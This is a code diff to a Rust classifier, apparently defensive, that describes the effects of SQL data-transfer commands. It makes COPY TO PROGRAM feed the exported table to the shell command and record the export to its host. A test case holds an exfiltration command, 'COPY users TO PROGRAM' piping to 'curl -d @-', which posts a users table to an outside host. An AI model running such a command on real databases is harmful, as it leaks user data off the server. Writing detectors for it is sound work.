@@ -1,5 +1,6 @@
 //! Data in and out of the server: COPY, UNLOAD, LOAD DATA, stages, backups, attached files.
 
+use crate::classify::command::Stream;
 use crate::model::{Area, CodeOrigin, Effect, Extent, Operation, Resource, ResourceKind, Span, Zone};
 
 use super::cursor::{Cursor, Name};
@@ -229,6 +230,8 @@ fn copy(run: &mut Run<'_, '_, '_>, mut cursor: Cursor<'_>) -> bool {
     }
     if cursor.eat("PROGRAM") {
         let (code, at) = cursor.string().unwrap_or_else(|| (String::new(), span.unwrap_or(Span::new(0, 0))));
+        let carries = if out { vec![resource.clone()] } else { Vec::new() };
+        let stdin = Stream { connected: out, carries, ..Stream::default() };
         if out {
             let peer = code.clone();
             run.put(Operation::Export, resource, extent, "COPY TO PROGRAM", span, |effect| {
@@ -248,7 +251,7 @@ fn copy(run: &mut Run<'_, '_, '_>, mut cursor: Cursor<'_>) -> bool {
                 effect.code = Some(CodeOrigin::Local);
             },
         );
-        run.shell(&code, at);
+        run.shell_reading(&code, at, stdin);
         return true;
     }
     if cursor.eat_any(&["STDOUT", "STDIN", "PSTDOUT", "PSTDIN"]) {
@@ -456,7 +459,7 @@ mod tests {
         check(
             "postgres",
             "COPY users TO PROGRAM 'curl -d @- https://example.com'",
-            "export Table users (all, external curl -d @- https://example.com)\nexecute Code curl -d @- https://example.com (one, local code)",
+            "export Table users (all, external curl -d @- https://example.com)\nexecute Code curl -d @- https://example.com (one, local code)\nexport Table users (all, external example.com, host example.com)",
         );
         check(
             "postgres",
